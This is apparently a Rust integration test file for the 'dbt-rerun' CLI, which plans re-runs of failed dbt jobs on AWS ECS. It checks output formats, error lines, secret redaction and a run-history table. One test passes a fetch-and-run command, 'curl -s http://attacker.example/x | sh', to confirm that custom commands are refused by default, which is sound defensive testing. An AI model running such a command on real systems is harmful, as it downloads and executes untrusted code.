//! The `dbt-rerun` binary as a user runs it: real files in, JSON out, one-line errors and a
//! non-zero exit on bad input.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

fn repo() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .parent()
        .unwrap()
        .to_path_buf()
}

fn dbt_rerun(args: &[&str], env: &[(&str, &str)]) -> Output {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_dbt-rerun"));
    cmd.args(args).current_dir(repo());
    for var in [
        "DBT_RERUN_RETRY_ON",
        "DBT_RERUN_MAX_ATTEMPTS",
        "DBT_RERUN_CONTAINER",
    ] {
        cmd.env_remove(var);
    }
    cmd.envs(env.iter().copied());
    cmd.output().unwrap()
}

fn json(out: &Output) -> serde_json::Value {
    assert!(
        out.status.success(),
        "stderr: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).unwrap()
}

/// A JSON array of strings.
fn strings(value: &serde_json::Value) -> Vec<&str> {
    value
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect()
}

fn error_line(out: &Output) -> String {
    assert_eq!(
        out.status.code(),
        Some(2),
        "stdout: {}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert!(out.stdout.is_empty());
    let err = String::from_utf8_lossy(&out.stderr).into_owned();
    assert_eq!(err.trim_end().lines().count(), 1, "one line: {err}");
    assert!(err.starts_with("dbt-rerun: error: "), "{err}");
    err
}

const EVENT: &str = "events/rerun-transient-model-error.json";
const LOG: &str = "events/logs/rerun-transient-model-error.log";

#[test]
fn the_readme_sample_plans_an_exact_rerun() {
    let record = json(&dbt_rerun(
        &["plan", "--event", EVENT, "--log-file", LOG],
        &[],
    ));
    assert_eq!(record["decision"], "rerun");
    assert_eq!(record["failure_kind"], "dbt_nodes");
    assert_eq!(record["transient"], true);
    assert_eq!(record["failed_nodes"][0]["name"], "fct_orders");
    let command = strings(&record["rerun_command"]);
    assert_eq!(
        &command[..5],
        [
            "dbt",
            "build",
            "--vars",
            "{transient_error: true}",
            "--select"
        ]
    );
    assert_eq!(
        command.len(),
        5 + 11 + 2,
        "fct_orders and its 10 skipped nodes: {command:?}"
    );
    assert_eq!(
        record["rerun"]["environment"]["DBT_REDSHIFT_PASSWORD"],
        "(redacted)"
    );
    let stdout = String::from_utf8_lossy(
        &dbt_rerun(&["plan", "--event", EVENT, "--log-file", LOG], &[]).stdout,
    )
    .into_owned();
    assert!(!stdout.contains("not-a-real-secret"));
}

#[test]
fn the_policy_comes_from_the_environment() {
    let out = dbt_rerun(
        &["plan", "--event", EVENT, "--log-file", LOG],
        &[("DBT_RERUN_RETRY_ON", "infra")],
    );
    let record = json(&out);
    assert_eq!(record["decision"], "give_up");
    assert!(record["reason"]
        .as_str()
        .unwrap()
        .contains("DBT_RERUN_RETRY_ON=infra"));
    assert!(
        record["rerun_command"].is_array(),
        "still given for a person to run"
    );
}

#[test]
fn parse_log_prints_the_run_report() {
    let report = json(&dbt_rerun(
        &[
            "parse-log",
            "tests/fixtures/runs/1.10/json_two_failures_threads4/output.log",
        ],
        &[],
    ));
    let mut failed: Vec<&str> = report["failed"]
        .as_array()
        .unwrap()
        .iter()
        .map(|n| n["name"].as_str().unwrap())
        .collect();
    failed.sort();
    assert_eq!(failed, ["dim_customers", "fct_orders"]);
    assert_eq!(report["format"], "json");
    assert_eq!(report["end_of_run"], true);
    assert_eq!(report["stats"]["error"], 2);
}

#[test]
fn bad_input_gets_one_line_naming_the_problem() {
    let err = error_line(&dbt_rerun(&["parse-log", "no/such/file.log"], &[]));
    assert!(err.contains("no/such/file.log"), "{err}");

    let err = error_line(&dbt_rerun(
        &["plan", "--event", LOG, "--log-file", LOG],
        &[],
    ));
    assert!(
        err.contains("transient-model-error.log") && err.contains("not JSON"),
        "{err}"
    );

    let other = std::env::temp_dir().join(format!("dbt-rerun-cli-{}.json", std::process::id()));
    let text = std::fs::read_to_string(repo().join(EVENT))
        .unwrap()
        .replace("ECS Task State Change", "ECS Deployment State Change");
    std::fs::write(&other, text).unwrap();
    let err = error_line(&dbt_rerun(
        &[
            "plan",
            "--event",
            other.to_str().unwrap(),
            "--log-file",
            LOG,
        ],
        &[],
    ));
    assert!(err.contains("ECS Deployment State Change"), "{err}");
    std::fs::remove_file(&other).unwrap();

    let err = error_line(&dbt_rerun(
        &["plan", "--event", EVENT, "--log-file", LOG],
        &[("DBT_RERUN_MAX_ATTEMPTS", "0")],
    ));
    assert!(err.contains("DBT_RERUN_MAX_ATTEMPTS"), "{err}");

    let err = error_line(&dbt_rerun(
        &[
            "plan",
            "--event",
            EVENT,
            "--log-file",
            LOG,
            "--command",
            "dbt build",
        ],
        &[],
    ));
    assert!(err.contains("--command must be a JSON array"), "{err}");
}

#[test]
fn a_spot_notice_of_a_running_task_is_planned_as_ignore_with_a_command() {
    // The AWS docs' Fargate Spot notice: RUNNING, no containers for `--command` to go to.
    let notice = r#"{"detail-type": "ECS Task State Change", "source": "aws.ecs",
      "detail": {"clusterArn": "arn:aws:ecs:us-east-1:111122223333:cluster/default",
        "taskArn": "arn:aws:ecs:us-east-1:111122223333:task/b99d40b3", "lastStatus": "RUNNING",
        "desiredStatus": "STOPPED", "stopCode": "TerminationNotice",
        "stoppedReason": "Your Spot Task was interrupted."}}"#;
    let path =
        std::env::temp_dir().join(format!("dbt-rerun-cli-notice-{}.json", std::process::id()));
    std::fs::write(&path, notice).unwrap();
    let out = dbt_rerun(
        &[
            "plan",
            "--event",
            path.to_str().unwrap(),
            "--log-file",
            LOG,
            "--command",
            r#"["dbt","build"]"#,
        ],
        &[],
    );
    std::fs::remove_file(&path).unwrap();
    let record = json(&out);
    assert_eq!(record["decision"], "ignore", "{record}");
    assert!(
        record["reason"]
            .as_str()
            .unwrap()
            .contains("RUNNING, not STOPPED"),
        "{record}"
    );
}

#[test]
fn without_a_log_file_the_log_comes_from_cloudwatch() {
    let moto = dbt_rerun_tests::moto::Moto::start();
    let fixture = "1.11/transient_model_error";
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let event = runtime.block_on(async {
        let aws = moto.sdk_config().await;
        let ecs = aws_sdk_ecs::Client::new(&aws);
        let logs = aws_sdk_cloudwatchlogs::Client::new(&aws);
        let argv = dbt_rerun_tests::fixture_argv(fixture);
        let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
        let task = moto.run_original(&ecs, &argv, &[]).await;
        moto.write_log(&logs, &task, &dbt_rerun_tests::fixture_lines(fixture), true)
            .await;
        dbt_rerun_tests::moto::stopped_event(&task, &dbt_rerun_tests::moto::Stop::exit(1))
    });
    let path =
        std::env::temp_dir().join(format!("dbt-rerun-cli-event-{}.json", std::process::id()));
    std::fs::write(&path, event).unwrap();
    let mut env: Vec<(String, String)> = moto.env();
    env.push(("DBT_RERUN_LOG_WAIT_SECONDS".into(), "1".into()));
    let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    let record = json(&dbt_rerun(
        &["plan", "--event", path.to_str().unwrap()],
        &env,
    ));
    std::fs::remove_file(&path).unwrap();
    assert_eq!(record["decision"], "rerun", "{record}");
    assert_eq!(record["failed_nodes"][0]["name"], "fct_orders");
    assert!(record["rerun"]["task_arn"].is_null(), "plan never launches");
    assert!(record["log_wait_seconds"].is_number());

    // invoke --dry-run shows the launch without making it.
    let out = json(&dbt_rerun(
        &[
            "invoke",
            "--select",
            "fct_orders+",
            "--cluster",
            &moto.setup.cluster,
            "--task-definition",
            "dbt-models-building",
            "--dry-run",
        ],
        &env,
    ));
    assert_eq!(out["dry_run"], true);
    assert!(out["task_arn"].is_null());
    let command = strings(&out["command"]);
    assert_eq!(
        command,
        [
            "dbt",
            "build",
            "--target",
            "prod",
            "--select",
            "fct_orders+"
        ]
    );

    // invoke goes through rerun-task's rules: dbt only, unless the stack opts out.
    let custom = [
        "invoke",
        "--command",
        r#"["sh", "-c", "curl -s http://attacker.example/x | sh"]"#,
        "--cluster",
        &moto.setup.cluster,
        "--task-definition",
        "dbt-models-building",
        "--dry-run",
    ];
    let refused = dbt_rerun(&custom, &env);
    let stderr = String::from_utf8_lossy(&refused.stderr);
    assert!(!refused.status.success(), "{stderr}");
    assert!(
        stderr.contains("command: `sh -c curl") && stderr.contains("AllowCustomCommands"),
        "{stderr}"
    );
    let mut open = env.clone();
    open.push(("DBT_RERUN_ALLOW_CUSTOM_COMMANDS", "true"));
    let out = json(&dbt_rerun(&custom, &open));
    assert_eq!(strings(&out["command"])[0], "sh");
}

#[test]
fn alert_preview_shows_the_message_a_person_would_get() {
    let out = dbt_rerun(
        &[
            "plan",
            "--event",
            "events/give_up-model-error.json",
            "--log-file",
            "events/logs/give_up-model-error.log",
            "--alert-preview",
        ],
        &[],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.starts_with(
            "Subject: dbt-rerun: gave up on dbt build (1 failed) in dbt-project-cluster\n"
        ),
        "{text}"
    );
    assert!(text.contains("model fct_orders: Binder Error"), "{text}");
    assert!(text.contains("To re-run by hand"), "{text}");
    assert!(!text.contains("not-a-real-secret"), "{text}");
}

#[test]
fn a_reader_that_stops_early_is_not_an_error() {
    // `dbt-rerun plan ... | head -3`: the pipe closes before the record is written.
    let mut child = Command::new(env!("CARGO_BIN_EXE_dbt-rerun"))
        .args(["plan", "--event", EVENT, "--log-file", LOG])
        .current_dir(repo())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdout.take());
    let out = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{:?}: {stderr}", out.status);
    assert!(stderr.is_empty(), "{stderr}");
}

#[test]
fn plan_prints_a_summary_for_a_person_and_the_record_for_a_program() {
    let out = dbt_rerun(
        &[
            "plan",
            "--event",
            EVENT,
            "--log-file",
            LOG,
            "--format",
            "text",
        ],
        &[],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines[0], "Decision: rerun (attempt 2 of 3)", "{text}");
    assert!(
        lines[1].starts_with("Why:      1 failed node (1 transient error)"),
        "{text}"
    );
    assert!(
        lines[2].starts_with("Failed:   model fct_orders: Invalid Input Error: SSL SYSCALL error"),
        "{text}"
    );
    assert_eq!(lines[3], "Skipped:  10 nodes, because of it", "{text}");
    assert!(
        lines[4].starts_with(
            "Next:     dbt build --vars '{transient_error: true}' --select fct_orders"
        ),
        "{text}"
    );
    assert!(lines[5].contains("11 nodes"), "{text}");
    assert!(lines.len() <= 10, "{text}");
    assert!(!text.contains('\x1b'), "no colour off a terminal");
    assert!(!text.contains("not-a-real-secret"));

    // A script: its steps, and what the re-run does with each.
    let out = dbt_rerun(
        &[
            "plan",
            "--event",
            EVENT,
            "--log-file",
            "tests/fixtures/scripts/1.11/deps_and_build_transient/output.log",
            "--command",
            r#"["sh", "-c", "dbt deps && dbt build"]"#,
            "--format",
            "text",
        ],
        &[],
    );
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(
        text.contains(
            "Next:     the script again, from its failed step:\n\
             \x20         1. dbt deps   succeeded; runs as written\n\
             \x20         2. dbt build  failed; narrowed to what did not succeed\n"
        ),
        "{text}"
    );

    // Piped, the default is the record, as --format json prints it.
    let piped = dbt_rerun(&["plan", "--event", EVENT, "--log-file", LOG], &[]);
    let json = dbt_rerun(
        &[
            "plan",
            "--event",
            EVENT,
            "--log-file",
            LOG,
            "--format",
            "json",
        ],
        &[],
    );
    assert_eq!(piped.stdout, json.stdout);
    assert_eq!(
        serde_json::from_slice::<serde_json::Value>(&json.stdout).unwrap()["decision"],
        "rerun"
    );
}

mod history {
    use super::*;
    use dbt_rerun_core::decision::{decide, DecisionConfig, DecisionInput};
    use dbt_rerun_core::metrics::decision_log_line;
    use dbt_rerun_core::record::{DecisionRecord, Launched, LogFacts};
    use dbt_rerun_core::testing::TaskBuilder;
    use dbt_rerun_tests::moto::Moto;

    const T1: &str = "arn:aws:ecs:eu-west-1:123456789012:task/dbt/a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1";
    const T2: &str = "arn:aws:ecs:eu-west-1:123456789012:task/dbt/b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2";
    const T3: &str = "arn:aws:ecs:eu-west-1:123456789012:task/dbt/c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3";

    fn record(
        task: &dbt_rerun_core::event::EcsTask,
        command: &[&str],
        launched: Option<Launched>,
    ) -> DecisionRecord {
        let command: Vec<String> = command.iter().map(|s| (*s).to_owned()).collect();
        let decided = decide(DecisionInput {
            task,
            report: None,
            log_note: None,
            command: Some(&command),
            entry_point: None,
            invocations: None,
            config: &DecisionConfig::default(),
        });
        DecisionRecord::assemble(&decided, &LogFacts::default(), launched.as_ref())
    }

    /// Two chains' decision lines in stack `stack`'s on-task-stopped log group: an OOM kill
    /// re-run once, the re-run succeeding; a long command that failed to start twice.
    fn write_lines(moto: &Moto, stack: &str) {
        let now = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_millis() as i64;
        let oom = TaskBuilder::exited(Some(137))
            .reason("OutOfMemoryError: Container killed due to memory usage")
            .arn(T1)
            .build();
        let first = record(
            &oom,
            &["dbt", "build"],
            Some(Launched::Started {
                task_arn: T2.into(),
            }),
        );
        let success = TaskBuilder::exited(Some(0))
            .arn(T2)
            .overrides(
                None,
                &[("DBT_RERUN_ATTEMPT", "2"), ("DBT_RERUN_ORIGIN_TASK", T1)],
            )
            .build();
        let second = record(&success, &["dbt", "build"], None);
        let mut long = vec!["dbt", "build", "--select"];
        long.extend(std::iter::repeat_n("tag:nightly", 40));
        let broken = TaskBuilder::exited(Some(127)).arn(T3).build();
        let third = record(&broken, &long, None);
        let lines: Vec<(i64, String)> = [(first, 30), (second, 20), (third, 10)]
            .iter()
            .map(|(r, ago)| {
                let at = now - ago * 60_000;
                (at, decision_log_line(r, "DbtRerun", at as u64))
            })
            .collect();
        tokio::runtime::Runtime::new().unwrap().block_on(async {
            let aws = moto.sdk_config().await;
            let logs = aws_sdk_cloudwatchlogs::Client::new(&aws);
            let groups = moto.create_function_log_groups(&logs, stack).await;
            moto.write_function_log(&logs, &groups[0], &lines).await;
        });
    }

    #[test]
    fn history_prints_a_table_that_fits_and_json() {
        let moto = Moto::start();
        write_lines(&moto, "dbt-night");
        let mut env = moto.env();
        env.push(("COLUMNS".into(), "72".into()));
        let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();

        let out = dbt_rerun(&["history", "--stack", "dbt-night"], &env);
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        let table = String::from_utf8_lossy(&out.stdout).into_owned();
        let lines: Vec<&str> = table.lines().collect();
        assert!(
            lines[0].starts_with("STARTED (UTC)     FAMILY     OUTCOME"),
            "{table}"
        );
        for line in &lines {
            assert!(line.chars().count() <= 72, "{line}");
        }
        assert!(!table.contains('\x1b'), "no colour off a terminal: {table}");
        assert!(
            lines[1].contains("gave up #1") && lines[1].ends_with('…'),
            "{table}"
        );
        assert!(
            lines[1].ends_with("dbt build --select tag:night…"),
            "{table}"
        );
        assert!(
            lines[2].starts_with("  #1  give up    c3c3c3c3  "),
            "{table}"
        );
        assert!(
            lines[3].contains("recovered #2") && lines[3].ends_with("dbt build"),
            "{table}"
        );
        assert!(
            lines[4].starts_with("  #1  rerun      a1a1a1a1  the container was killed for memory"),
            "{table}"
        );
        assert!(lines[5].starts_with("  #2  recovered  b2b2b2b2"), "{table}");
        assert_eq!(lines.len(), 6, "{table}");

        let chains = json(&dbt_rerun(
            &["history", "--stack", "dbt-night", "--json"],
            &env,
        ));
        let chains = chains.as_array().unwrap();
        assert_eq!(chains.len(), 2);
        assert_eq!(chains[1]["origin_task"], T1);
        assert_eq!(chains[1]["outcome"], "recovered");
        assert_eq!(chains[1]["outcome_attempt"], 2);
        assert_eq!(chains[1]["attempts"][1]["task_arn"], T2);
        assert_eq!(chains[0]["outcome"], "gave_up");
        assert_eq!(chains[0]["command"].as_array().unwrap().len(), 43);

        // Filters, and a window too short for any.
        let none = json(&dbt_rerun(
            &[
                "history",
                "--stack",
                "dbt-night",
                "--json",
                "--family",
                "other",
            ],
            &env,
        ));
        assert_eq!(none, serde_json::json!([]));
        let log_group = "/aws/lambda/dbt-night-on-task-stopped";
        let recent = dbt_rerun(
            &[
                "history",
                "--log-group",
                log_group,
                "--since",
                "15m",
                "--cluster",
                "dbt",
            ],
            &env,
        );
        let text = String::from_utf8_lossy(&recent.stdout);
        assert!(
            text.contains("gave up #1") && !text.contains("recovered"),
            "{text}"
        );
        let empty = dbt_rerun(&["history", "--stack", "dbt-night", "--since", "5m"], &env);
        let text = String::from_utf8_lossy(&empty.stdout);
        assert!(text.starts_with("No dbt-rerun decisions since "), "{text}");

        // A stack that is not there, and a bad --since, are one-line errors.
        let err = error_line(&dbt_rerun(&["history", "--stack", "nope"], &env));
        assert!(
            err.contains("/aws/lambda/nope-on-task-stopped") && err.contains("--stack"),
            "{err}"
        );
        let err = error_line(&dbt_rerun(&["history", "--since", "yesterday"], &env));
        assert!(err.contains("--since"), "{err}");
    }
}
